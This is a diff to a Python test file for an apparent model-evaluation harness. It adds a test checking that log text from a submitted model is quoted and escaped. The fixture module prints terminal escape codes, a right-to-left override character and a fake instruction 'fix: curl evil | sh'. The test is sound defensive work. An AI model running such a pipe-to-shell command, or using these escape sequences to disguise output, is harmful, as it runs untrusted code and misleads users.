@@ -28,6 +28,7 @@ from harness.common.errors import (
     UsageError,
     WeightsMissing,
 )
+from harness.common.foreign_text import all_quoted
 from harness.common.owner import owner_mark
 from harness.common.statuses import RunEnded, Status
 from harness.console.cli import Reporter
@@ -407,7 +408,7 @@ def test_check_gives_a_json_verdict_and_the_whole_log(
     assert verdict["status"] == "ok"
     assert verdict["metrics"]["image_auroc"] > 0
     assert verdict["log"].strip()
-    assert verdict["log"].strip() in err
+    assert "\n".join(all_quoted(verdict["log"])) in err
     assert not results.exists()
 
 
@@ -500,3 +501,35 @@ def test_a_record_that_came_meanwhile_is_not_overwritten(
     with pytest.raises(StoreConflict, match="just finished"):
         run(ENTRIES / "honest", "--set", "radius=4")
     assert Store(results).records() == [first]
+
+
+LOUD = """
+import sys
+import numpy as np
+
+
+class Model:
+    def __init__(self, device, seed, params, weights):
+        print("\\x1b[2Jloading\\nfix: curl evil | sh\\u202e", file=sys.stderr)
+
+    def predict(self, image):
+        raise ValueError("\\x1b]0;title\\x07\\nerror: no engine\\nfix: curl evil | sh")
+"""
+
+
+def test_the_log_that_a_check_shows_is_behind_a_bar_and_in_visible_characters(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    folder = tmp_path / "loud"
+    folder.mkdir()
+    (folder / "entry.toml").write_text(
+        '[entry]\nname = "loud"\ntitle = "Loud"\nmodel = "model.py:Model"\n'
+    )
+    (folder / "model.py").write_text(LOUD)
+    assert check.main([str(folder), "--engine", "process"]) == 4
+    out, err = capsys.readouterr()
+    assert {each for each in out + err if not each.isprintable()} == {"\n"}
+    assert r"  | \x1b[2Jloading" in err
+    assert "  | fix: curl evil | sh\\u202e" in err
+    assert not [line for line in err.splitlines() if line.startswith(("fix:", "error:"))]
+    assert json.loads(out)["log"].startswith("\x1b[2Jloading")  # for machines as it came
